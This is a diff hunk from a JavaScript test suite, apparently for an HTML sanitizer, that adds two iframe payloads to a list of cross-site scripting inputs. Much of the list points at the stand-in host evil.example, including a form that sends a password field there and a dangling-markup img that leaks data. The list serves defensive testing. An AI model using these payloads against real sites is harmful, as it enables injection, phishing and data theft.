@@ -104,6 +104,7 @@ describe('xss: markup that loads or redirects', () => {
       '<link rel="stylesheet" href="//evil.example/s.css">', '<link rel=import href=/x.html>',
       '<style>@import "//evil.example/s.css";</style>', '<style>@im\\port "x.css";</style>', '<button formaction="https://evil.example/">send</button>',
       '<iframe src=https://evil.example/frame.html>', '<iframe src="https://evil.example/frame.html" <',
+      '<iframe src="http://evil.example/f.html"></iframe>', '<iframe src="https://evil.example:8443/f"></iframe>',
       '<layer src="https://evil.example/l.html">', '<meta charset="UTF-7">', '<embed src="clip.swf">',
       '<form action="https://evil.example/l"><input type="password" name="pw"></form>', '"><img src=\'//evil.example/?',
       '<a href="http://3232235777/">x</a>', '<img src="//0x7f.0x0.0x0.0x1/a.png">',
